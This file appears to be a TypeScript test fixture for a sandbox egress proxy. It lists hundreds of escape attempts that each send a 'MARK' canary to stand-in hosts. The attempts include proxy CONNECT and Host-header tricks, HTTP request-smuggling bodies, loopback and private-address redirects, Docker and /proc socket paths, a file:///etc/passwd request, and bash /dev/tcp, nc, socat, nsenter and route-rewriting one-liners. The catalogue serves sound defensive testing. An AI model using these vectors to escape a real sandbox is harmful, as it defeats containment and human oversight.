import { OTHER_HOSTS } from '../../../packages/server/src/egress/other-hosts.suite.ts';

/** One way in which a program in a sandbox tries to reach what its environment does not allow. `MARK` is what would be seen there. */
export type Attempt =
  | { readonly kind: 'tcp' | 'udp'; readonly host: string; readonly port: number; readonly data?: string }
  | { readonly kind: 'unix'; readonly path: string }
  /** Bytes for the proxy, and what follows when it has opened a tunnel. */
  | { readonly kind: 'proxy'; readonly text: string; readonly behind?: string }
  /** TLS in a tunnel: with another name, or with another request than the tunnel is for. */
  | { readonly kind: 'tls'; readonly to: string; readonly servername: string; readonly text: string }
  | { readonly kind: 'dns'; readonly server?: string; readonly name: string }
  | { readonly kind: 'shell'; readonly command: string };

/** What is outside of the sandbox and must not be reached. */
export interface Outside {
  readonly port: number;
  readonly socketPath: string;
  readonly abstractName: string;
  readonly foreignProxy: string;
  /** An address of this machine on its network. */
  readonly ownAddress: string;
}

/** Names whose addresses are not public, with those addresses: `p0.priv.example` and so on. */
export const PRIVATE_ADDRESSES: readonly string[] =
  `127.0.0.1 127.1.2.3 0.0.0.0 0.1.2.3 10.0.0.1 172.16.0.1 172.31.255.254 192.168.1.1 192.0.0.1 192.0.2.1 198.18.0.1 169.254.169.254
  100.64.0.1 100.100.100.200 224.0.0.1 240.0.0.1 255.255.255.255 ::1 :: ::ffff:127.0.0.1 ::ffff:10.0.0.1 64:ff9b::7f00:1 2002:7f00:1::
  fe80::1 fd00::1 fec0::1 ff02::1 2001:db8::1`.split(/\s+/);

/** More than 400 ways out, each with a name. */
export function listAttempts(outside: Outside): Readonly<Record<string, Attempt>> {
  return {
    ...named('direct TCP', listAddresses(outside), (host) => ({ kind: 'tcp', host, port: outside.port })),
    ...named('direct UDP', listAddresses(outside), (host) => ({ kind: 'udp', host, port: outside.port, data: 'MARK' })),
    ...named('QUIC', ['93.184.216.34', outside.ownAddress, '127.0.0.1', '2606:4700::1111'], (host) => ({
      kind: 'udp',
      host,
      port: 443,
      // The beginning of an Initial packet of version 1.
      data: `\u00c0\u0000\u0000\u0000\u0001\u0008MARKMARK${'\u0000'.repeat(1_180)}`,
    })),
    ...named('DNS', ['', '8.8.8.8', '1.1.1.1', '127.0.0.53', '127.0.0.1', '::1', outside.ownAddress], (server) => ({
      kind: 'dns',
      ...(server !== '' && { server }),
      name: 'MARK.b.example',
    })),
    ...named('Unix socket', listSockets(outside), (path) => ({ kind: 'unix', path })),
    ...named('CONNECT to another host', OTHER_HOSTS, (host) => tunnel(`${host}:443`, `${host}:443`)),
    ...named('CONNECT with an allowed Host', OTHER_HOSTS.slice(0, 12), (host) =>
      tunnel(`${host}:443`, 'a.example:443'),
    ),
    ...named('URL of another host', OTHER_HOSTS, (host) => plain(`GET http://${host}/MARK HTTP/1.1`, `Host: ${host}`)),
    ...named('CONNECT to a port', PORTS, (port) => tunnel(`a.example:${port}`, `a.example:${port}`)),
    ...named('a name of a private address', [...PRIVATE_ADDRESSES.keys()], (at) =>
      tunnel(`p${at}.priv.example:443`, `p${at}.priv.example:443`),
    ),
    ...named('a URL of a private address', [0, 11, 18, 20], (at) =>
      plain(`GET http://p${at}.priv.example/MARK HTTP/1.1`, `Host: p${at}.priv.example`),
    ),
    ...named('no TLS in a tunnel', FIRST_BYTES, (behind) => ({ ...tunnel('a.example:443', 'a.example:443'), behind })),
    ...named(
      'another name in TLS',
      ['b.example', 'A.EXAMPLE.b.example', 'a.example.b', 'example', 'c.example'],
      (servername) => ({
        kind: 'tls',
        to: 'a.example:443',
        servername,
        text: `GET /MARK HTTP/1.1\r\nHost: ${servername}\r\n\r\n`,
      }),
    ),
    ...named('another request in opened TLS', OPENED_REQUESTS, (text) => ({
      kind: 'tls',
      to: 'c.example:443',
      servername: 'c.example',
      text,
    })),
    ...named('a request to the proxy', PLAIN_REQUESTS, (text) => ({ kind: 'proxy', text })),
    ...named('bytes behind a request', SMUGGLED, (rest) => ({
      kind: 'proxy',
      text: `POST http://a.example/ HTTP/1.1\r\nHost: a.example\r\n${rest}GET http://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n`,
    })),
    ...named('a redirect', [...REDIRECTS.keys()], (at) => ({
      kind: 'shell',
      command: `curl -sSL --max-time 5 http://a.example/redirect/${at}`,
    })),
    ...named('a program', listCommands(outside), (command) => ({ kind: 'shell', command })),
  };
}

/** Where `http://a.example/redirect/<number>` leads. `PORT` is that of the server outside. */
export const REDIRECTS: readonly string[] = [
  'http://b.example/MARK',
  'https://b.example/MARK',
  '//b.example/MARK',
  'http://127.0.0.1:PORT/MARK',
  'http://[::ffff:127.0.0.1]:PORT/MARK',
  'http://0x7f.1:PORT/MARK',
  'http://a.example@b.example/MARK',
  'http://a.example:PORT/MARK',
  'http://p0.priv.example/MARK',
  'ftp://b.example/MARK',
];

const PORTS = [
  0, 1, 21, 22, 23, 25, 53, 79, 81, 110, 143, 444, 465, 853, 3128, 3306, 5432, 6379, 8080, 8443, 65_535, 65_616,
];

function listAddresses({ ownAddress }: Outside): readonly string[] {
  const written =
    '127.0.0.1 127.1 0x7f.1 2130706433 127.0.0.2 0.0.0.0 ::1 :: ::ffff:127.0.0.1 93.184.216.34 169.254.169.254 10.0.0.1';
  return [...written.split(' '), '192.168.0.1', '2606:4700::1111', 'fe80::1', 'localhost', 'a.example', ownAddress];
}

function listSockets({ socketPath, abstractName, foreignProxy }: Outside): readonly string[] {
  const inRoots = [
    '/proc/1/root',
    '/proc/self/root',
    '/proc/2/root',
    '/fleetloom/..',
    '/..',
    '/tmp/..',
    '/proc/1/cwd/../../..',
  ];
  return [
    socketPath,
    `\u0000${abstractName}`,
    foreignProxy,
    ...inRoots.map((root) => `${root}${socketPath}`),
    ...['/proc/1/root', '/proc/self/root'].map((root) => `${root}${foreignProxy}`),
    ...'/var/run/docker.sock /run/systemd/private /run/dbus/system_bus_socket /run/nscd/socket /run/containerd/containerd.sock'.split(
      ' ',
    ),
    '\u0000/tmp/.X11-unix/X0',
  ];
}

function tunnel(target: string, host: string): Extract<Attempt, { kind: 'proxy' }> {
  // Any client begins TLS; what is not TLS would be refused for that alone.
  return { kind: 'proxy', text: `CONNECT ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`, behind: 'MARK' };
}

function plain(first: string, ...headers: readonly string[]): Attempt {
  return { kind: 'proxy', text: [first, ...headers, 'Connection: close', '', ''].join('\r\n') };
}

/** Instead of TLS, in a tunnel to an allowed host. */
const FIRST_BYTES: readonly string[] = [
  'CONNECT b.example:443 HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'GET http://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: a.example\r\n\r\n',
  'PROXY TCP4 1.2.3.4 1.2.3.4 1 2\r\nMARK',
  '\r\n\r\n\u0000\r\nQUIT\nMARK',
  '\u0005\u0001\u0000MARK',
  '\u0004\u0001\u0000P\u0001\u0001\u0001\u0001\u0000MARK',
  'SSH-2.0-MARK\r\n',
  'EHLO MARK\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK',
  '\u0016\u0003\u0001\u0000\u0008\u0002\u0000\u0000\u0004MARK',
  '\u0015\u0003\u0001\u0000\u0004MARK',
  '\u0080.\u0001\u0003\u0001MARK',
  '\u0017\u0003\u0003\u0000\u0004MARK',
];

/** In a tunnel to `c.example`, whose TLS is opened: what the host would take for another site, or for a second request. */
const OPENED_REQUESTS: readonly string[] = [
  'GET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example\r\nHost: b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: b.example\r\nHost: c.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example.b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example:80\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example@b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example, b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: c.example\u0000.b.example\r\n\r\n',
  'GET /MARK HTTP/1.1\r\n\r\n',
  'GET /MARK HTTP/1.0\r\n\r\n',
  'GET https://b.example/MARK HTTP/1.1\r\nHost: c.example\r\n\r\n',
  'GET http://b.example/MARK HTTP/1.1\r\nHost: c.example\r\n\r\n',
  'CONNECT b.example:443 HTTP/1.1\r\nHost: c.example\r\n\r\nMARK',
  'GET /ok HTTP/1.1\r\nHost: c.example\r\n\r\nGET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'POST /ok HTTP/1.1\r\nHost: c.example\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'POST /ok HTTP/1.1\r\nHost: c.example\r\nConnection: content-length\r\nContent-Length: 3\r\n\r\nabcGET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET /ok HTTP/1.1\r\nHost: c.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK',
  'GET /ok HTTP/1.1\r\nHost: c.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET /ok HTTP/1.1\r\nHost: c.example\r\n Host: b.example\r\nX: y\r\n\r\n',
  'GET /ok HTTP/1.1\r\nHost : b.example\r\nHost: c.example\r\n\r\n',
];

/** Forms of a request that name a host more than once, or in an odd place. */
const PLAIN_REQUESTS: readonly string[] = [
  'GET http://a.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http://b.example/MARK HTTP/1.1\r\nHost: a.example\r\n\r\n',
  'GET http://a.example/MARK HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n',
  'GET http://a.example/MARK HTTP/1.1\r\n\r\n',
  'GET http://a.example/MARK HTTP/1.0\r\n\r\n',
  'GET http://a.example/MARK\r\n\r\n',
  'GET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET //b.example/MARK HTTP/1.1\r\nHost: a.example\r\n\r\n',
  'GET http:b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http:/b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http:\\\\b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http://a.example\\@b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http://a.example#@b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http://a.example:80@b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET https://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET ftp://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET file:///etc/passwd HTTP/1.1\r\nHost: a.example\r\n\r\n',
  'GET gopher://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET unix:/run/docker.sock HTTP/1.1\r\nHost: a.example\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'GET b.example:443 HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'connect b.example:443 HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'CONNECT b.example HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'CONNECT https://b.example:443 HTTP/1.1\r\nHost: b.example\r\n\r\nMARK',
  'CONNECT a.example:443 b.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\nMARK',
  'CONNECT a.example:443/../b.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\nMARK',
  'CONNECT a.example:+443 HTTP/1.1\r\nHost: a.example\r\n\r\nMARK',
  'CONNECT a.example:0x1bb HTTP/1.1\r\nHost: a.example\r\n\r\nMARK',
  'CONNECT a.example:443443 HTTP/1.1\r\nHost: a.example\r\n\r\nMARK',
  'CONNECT b.example:443 HTTP/1.1\r\nHost: b.example\r\nX-Forwarded-Host: a.example\r\nProxy-Authorization: Basic YTpi\r\n\r\nMARK',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK',
  '\u0005\u0001\u0000MARK',
  'GET http://a.example/ok HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
  'GET http://a.example/ok HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK',
  'GET http://a.example/ok HTTP/1.1\r\nHost: a.example\r\n\r\nGET http://b.example/MARK HTTP/1.1\r\nHost: b.example\r\n\r\n',
];

/** What stands between the head of a request and a second one that must not be taken for one to another host. */
const SMUGGLED: readonly string[] = [
  'Content-Length: 0\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n3;x\n\r\nabc\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n0\r\nHost: b.example\r\n\r\n',
  'Content-Length: +3\r\n\r\nabc',
  'Content-Length: 3, 3\r\n\r\nabc',
  'Content-Length: 0x3\r\n\r\nabc',
  'Content-Length: 3\r\nContent-Length: 0\r\n\r\nabc',
  'X: y\nContent-Length: 0\r\n\r\n',
  'X: y\rHost: b.example\r\n\r\n',
  'Expect: 100-continue\r\nContent-Length: 0\r\n\r\n',
  'Connection: host\r\nContent-Length: 0\r\n\r\n',
];

/** Programs that know ways around a proxy. One that is not installed reaches nothing either. */
function listCommands({ port, ownAddress, socketPath }: Outside): readonly string[] {
  const curl = 'curl -sS --max-time 4';
  const code = (text: string) => `node -e ${quote(text)}`;
  return [
    `${curl} --noproxy '*' http://127.0.0.1:${port}/MARK`,
    `${curl} --noproxy '*' http://${ownAddress}:${port}/MARK`,
    `${curl} --noproxy '*' -6 'http://[::1]:${port}/MARK'`,
    `${curl} --noproxy '*' --unix-socket ${socketPath} http://x/MARK`,
    `${curl} --noproxy '*' --http3-only https://b.example/MARK`,
    `${curl} --resolve a.example:80:127.0.0.1 --noproxy '*' http://a.example/MARK`,
    `${curl} --connect-to a.example:443:b.example:443 https://a.example/MARK`,
    `${curl} -x socks5h://127.0.0.1:3128 http://b.example/MARK`,
    `${curl} -x http://a.example:80 http://b.example/MARK`,
    `${curl} --preproxy http://127.0.0.1:3128 -x http://a.example:80 -p http://b.example/MARK`,
    `${curl} -H 'Host: b.example' http://a.example/MARK`,
    `${curl} --doh-url https://8.8.8.8/dns-query --noproxy '*' https://b.example/MARK`,
    ...['ftp', 'telnet', 'dict', 'gopher', 'smtp', 'tftp', 'mqtt', 'ldap'].map(
      (scheme) => `${curl} ${scheme}://${ownAddress}:${port}/MARK`,
    ),
    `wget -q -O- -e use_proxy=off -T 3 -t 1 http://127.0.0.1:${port}/MARK`,
    `timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; echo MARK >&3; cat <&3'`,
    `timeout 3 bash -c 'echo MARK > /dev/udp/${ownAddress}/${port}'`,
    `git -c http.proxy= ls-remote http://127.0.0.1:${port}/MARK`,
    `git ls-remote git://127.0.0.1:${port}/MARK`,
    `GIT_SSH_COMMAND='ssh -o ConnectTimeout=3' git ls-remote ssh://127.0.0.1:${port}/MARK`,
    code(`fetch('http://127.0.0.1:${port}/MARK').then((r) => r.text()).then(console.log, console.error)`),
    `NODE_USE_ENV_PROXY=0 ${code(`fetch('http://${ownAddress}:${port}/MARK').then((r) => r.text()).then(console.log, console.error)`)}`,
    code(
      `new (require('worker_threads').Worker)("require('net').connect(${port}, '127.0.0.1').end('MARK').on('error', console.error)", { eval: true })`,
    ),
    `perl -MSocket -e 'for my $s ([2,3,1],[10,3,58],[17,3,768],[40,1,0],[30,1,0],[31,3,1]) { print "OUTSIDE @$s\\n" if socket(my $x, $s->[0], $s->[1], $s->[2]) }'`,
    `unshare -rn true && nsenter -t 1 -n ${curl} http://127.0.0.1:${port}/MARK`,
    `ip link set lo down; ip route add default dev lo; ${curl} --noproxy '*' http://${ownAddress}:${port}/MARK`,
    `for fd in /proc/*/fd/*; do readlink "$fd" | grep -q socket && echo MARK > "$fd"; done 2>/dev/null`,
    `ping -c 1 -W 1 ${ownAddress}; cat /proc/net/route | tail -n +2 | grep . && echo OUTSIDE`,
    `ssh -o BatchMode=yes -o ConnectTimeout=3 -p ${port} ${ownAddress} MARK`,
    `nc -w 2 127.0.0.1 ${port} <<< MARK; ncat --proxy 127.0.0.1:3128 b.example 443 <<< MARK; socat - TCP:127.0.0.1:${port} <<< MARK`,
    `python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", ${port}), 3); s.send(b"MARK"); print(s.recv(9))'`,
  ];
}

function quote(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

function named<Value>(
  name: string,
  values: readonly Value[],
  toAttempt: (value: Value) => Attempt,
): Record<string, Attempt> {
  return Object.fromEntries(values.map((value, at) => [`${name} ${at}: ${JSON.stringify(value)}`, toAttempt(value)]));
}
